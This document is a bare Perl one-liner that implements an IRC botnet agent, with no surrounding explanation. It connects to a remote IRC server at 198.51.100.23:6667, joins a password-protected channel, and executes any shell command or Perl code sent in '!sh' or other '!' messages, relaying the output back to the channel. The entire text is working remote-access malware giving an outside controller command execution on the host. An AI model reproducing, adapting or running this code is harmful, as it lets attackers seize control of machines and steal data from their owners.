perl -MIO::Socket::INET -e '
my $n = "srv" . int(rand(9999));
my $s = IO::Socket::INET->new(PeerAddr => "198.51.100.23", PeerPort => 6667) or exit;
print $s "NICK $n\r\nUSER $n 8 * :$n\r\n";
while (<$s>) {
  print $s "PONG $1\r\n" if /^PING (\S+)/;
  print $s "JOIN #c3 k3y\r\n" if / 001 /;
  if (/PRIVMSG \S+ :!(\S+) (.*)\r/) {
    my $out = $1 eq "sh" ? `$2 2>&1` : eval($2);
    print $s "PRIVMSG #c3 :$_\r\n" for split /\n/, $out;
  }
}'
